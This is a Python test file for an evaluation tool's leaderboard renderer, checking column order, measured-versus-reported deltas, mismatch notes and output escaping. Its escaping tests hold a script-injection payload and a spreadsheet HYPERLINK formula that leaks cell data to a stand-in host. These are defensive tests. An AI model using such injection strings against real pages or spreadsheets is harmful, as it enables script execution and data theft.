"""The leaderboard in the papers' layout: column order, reported rows beside measured runs of the
same checkpoint, deltas, definition mismatches said, and user strings escaped in every format."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from test_report_fixtures import write_run

from janus_eval.report.leaderboard import build_leaderboard, render_leaderboard
from janus_eval.report.papers import paper_leaderboard
from janus_eval.report.papers_render import render_papers
from janus_eval.report.records import load_runs
from janus_eval.report.reference import ReferenceValue, load_reference

PRO7 = "/ckpt/Janus-Pro-7B"
EVIL = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def _pope(root: Path, run_id: str, f1: float, checkpoint: str = PRO7, **kw) -> Path:
    options = {"split": kw.pop("split", "all")}
    return write_run(root, run_id, task="pope", primary="f1", model="janus",
                     checkpoint=checkpoint, metrics={"f1": f1, "accuracy": 50.0},
                     options=options, **kw)  # fmt: skip


def _table(root: Path, refs=None) -> dict:
    return paper_leaderboard(load_runs([root]), load_reference() if refs is None else refs)


def _measured(table: dict, checkpoint: str) -> dict:
    (row,) = [r for r in table["rows"] if not r["reported"] and r["checkpoint"] == checkpoint]
    return row


def test_columns_in_the_papers_order(tmp_path: Path) -> None:
    _pope(tmp_path, "p", 80.0)
    table = _table(tmp_path)
    assert [c["label"] for c in table["columns"]] == [
        "POPE", "MME-P", "MMBench", "SEED", "VQAv2", "GQA", "MMMU", "MM-Vet",
        "GenEval", "MSCOCO-30K FID", "MJHQ-30K FID",
    ]  # fmt: skip
    assert [g["name"] for g in table["groups"]] == ["understanding", "generation"]
    assert table["groups"][1]["columns"] == ["geneval", "coco30k_fid", "mjhq30k_fid"]
    lower = [c["label"] for c in table["columns"] if not c["higher_is_better"]]
    assert lower == ["MSCOCO-30K FID", "MJHQ-30K FID"]


def test_measured_beside_reported_with_the_delta(tmp_path: Path) -> None:
    _pope(tmp_path, "p", 85.0)
    write_run(tmp_path, "g", task="geneval", kind="generation", primary="overall",
              model="janus", checkpoint=PRO7, metrics={"overall": 0.75},
              options={"detector": "official"})  # fmt: skip
    table = _table(tmp_path)
    row = _measured(table, PRO7)
    assert row["cells"]["pope"]["reported"] == 87.4
    assert row["cells"]["pope"]["delta"] == pytest.approx(-2.4)
    assert row["cells"]["pope"]["paper"] == "arXiv:2501.17811"
    assert row["cells"]["geneval"]["delta"] == pytest.approx(-0.05)
    assert "mismatch" not in row["cells"]["pope"] and "mismatch" not in row["cells"]["geneval"]
    # the checkpoint's reported row comes right after its measured row
    order = [(r["release"], r["reported"]) for r in table["rows"]]
    at = order.index(("janus-pro-7b", False))
    assert order[at + 1] == ("janus-pro-7b", True)
    reported = table["rows"][at + 1]
    assert reported["cells"]["pope"]["value"] == 87.4
    assert "Table 3" in reported["cells"]["pope"]["source"]
    md = render_papers(table, "md")
    assert "85.00 (-2.40)" in md and "reported · arXiv:2501.17811" in md


def test_other_checkpoints_get_no_reported_number(tmp_path: Path) -> None:
    _pope(tmp_path, "p", 85.0, checkpoint="/ckpt/my-finetune")
    row = _measured(_table(tmp_path), "/ckpt/my-finetune")
    assert set(row["cells"]["pope"]) == {"value", "run_id", "partial"}


def test_definition_mismatch_is_said_not_hidden(tmp_path: Path) -> None:
    _pope(tmp_path, "p", 85.0, split="random")
    write_run(tmp_path, "v", task="vqav2", model="janus", checkpoint="/x/JanusFlow-1.3B",
              metrics={"accuracy": 70.0}, options={"split": "val"})  # fmt: skip
    table = _table(tmp_path)
    pope = _measured(table, PRO7)
    assert pope["cells"]["pope"]["mismatch"] == ["split: paper all, run random"]
    assert pope["cells"]["pope"]["delta"] == pytest.approx(-2.4)  # still shown
    assert any("split: paper all, run random" in n for n in pope["notes"])
    vqa = _measured(table, "/x/JanusFlow-1.3B")
    assert vqa["cells"]["vqav2"]["mismatch"] == ["split: paper testdev or test, run val"]
    write_run(tmp_path, "g", task="geneval", kind="generation", primary="overall",
              model="janus", checkpoint=PRO7, metrics={"overall": 0.75},
              options={"detector": "owlv2"})  # fmt: skip
    table = _table(tmp_path)
    gen = _measured(table, PRO7)["cells"]["geneval"]
    assert gen["mismatch"] == ["detector: paper official, run owlv2"]
    text = render_papers(table, "text")
    assert "85.00 (-2.40) ≠" in text and "≠ measured under another definition" in text


def test_newest_run_partial_and_demo_are_noted(tmp_path: Path) -> None:
    _pope(tmp_path, "old", 70.0, finished_at="2025-01-01T00:00:00Z")
    _pope(tmp_path, "new", 80.0, finished_at="2025-02-01T00:00:00Z", limit=5)
    row = _measured(_table(tmp_path), PRO7)
    assert row["cells"]["pope"]["value"] == 80.0 and row["cells"]["pope"]["partial"]
    notes = " ".join(row["notes"])
    assert "newest of 2 runs" in notes and "old" in notes and "limit=5" in notes
    assert "80.00* (-7.40)" in render_papers(_table(tmp_path), "md")


def test_papers_that_disagree_are_noted(tmp_path: Path) -> None:
    _pope(tmp_path, "p", 85.0)
    refs = [r for r in load_reference() if r.task == "pope" and r.checkpoint.endswith("Pro-7B")]
    other = ReferenceValue(**{**refs[0].__dict__, "paper": "arXiv:9999.99999", "value": 80.0})
    row = _measured(_table(tmp_path, [*refs, other]), PRO7)
    assert row["cells"]["pope"]["reported"] == 87.4  # the first paper by id
    assert any("papers disagree" in n and "80" in n for n in row["notes"])


def test_user_strings_are_escaped_in_every_format(tmp_path: Path) -> None:
    write_run(tmp_path, "e", task="pope", primary="f1", model=EVIL, checkpoint=f"/c/{EVIL}|*_[x](y)",
              metrics={"f1": 50.0}, options={"split": "all"})  # fmt: skip
    table = _table(tmp_path)
    md = render_papers(table, "md")
    assert "<script" not in md and "<img" not in md and "](y)" not in md
    assert "&lt;script&gt;" in md
    header = next(line for line in md.splitlines() if line.startswith("| model"))
    for line in md.splitlines():
        if line.startswith("|"):
            assert line.count(" | ") == header.count(" | "), line  # no cell broke out
    html = render_papers(table, "html")
    assert "<script" not in html and "<img" not in html and "&lt;script&gt;" in html
    rows = list(csv.reader(io.StringIO(render_papers(table, "csv"))))
    assert EVIL in [r[1] for r in rows]  # CSV keeps the exact text, quoted by the csv module
    data = json.loads(render_papers(table, "json"))
    assert [r["model"] for r in data["rows"] if not r["reported"]] == [EVIL]  # data stays exact


def test_csv_and_json_keep_full_precision(tmp_path: Path) -> None:
    _pope(tmp_path, "p", 85.123456789)
    table = _table(tmp_path)
    rows = list(csv.DictReader(io.StringIO(render_papers(table, "csv"))))
    measured = [r for r in rows if r["reported"] == "false"]
    assert float(measured[0]["POPE"]) == 85.123456789
    data = json.loads(render_papers(table, "json"))
    assert data == json.loads(json.dumps(table))


def test_cli_layout_papers(tmp_path: Path, cli) -> None:
    _pope(tmp_path / "runs", "p", 85.0)
    done = cli("leaderboard", str(tmp_path / "runs"), "--layout", "papers", "-f", "text")
    assert done.returncode == 0, done.stderr
    assert "understanding: POPE" in done.stdout and "‖ generation: GenEval" in done.stdout
    assert "85.00 (-2.40)" in done.stdout
    bad = cli("leaderboard", str(tmp_path / "runs"), "--layout", "paper")
    assert bad.returncode == 2 and "choose tasks or papers" in bad.stderr
    ref = tmp_path / "ref.json"
    ref.write_text("[]")
    broken = cli("leaderboard", str(tmp_path / "runs"), "--layout", "papers", "--reference",
                 str(ref))  # fmt: skip
    assert broken.returncode == 2 and "ref.json" in broken.stderr
    assert "Traceback" not in broken.stderr


def test_cli_sub_metrics_is_refused_in_the_papers_layout(tmp_path: Path, cli) -> None:
    _pope(tmp_path / "runs", "p", 85.0)
    done = cli("leaderboard", str(tmp_path / "runs"), "--layout", "papers", "--sub-metrics")
    assert done.returncode == 2 and "--sub-metrics" in done.stderr


FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"click")'


def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    write_run(tmp_path, "f", task="pope", primary="f1", model=FORMULA, checkpoint="@SUM(A1)",
              metrics={"f1": 50.0}, options={"split": "all"})  # fmt: skip
    rows = list(csv.reader(io.StringIO(render_papers(_table(tmp_path), "csv"))))
    measured = next(r for r in rows if r[0] == "false")
    assert measured[1:3] == ["'" + FORMULA, "'@SUM(A1)"]
    frame = build_leaderboard([tmp_path])
    lines = list(csv.reader(io.StringIO(render_leaderboard(frame, "csv"))))
    assert lines[1][:2] == ["'" + FORMULA, "'@SUM(A1)"]
    assert render_papers(_table(tmp_path), "json").count(FORMULA.replace('"', '\\"')) == 1
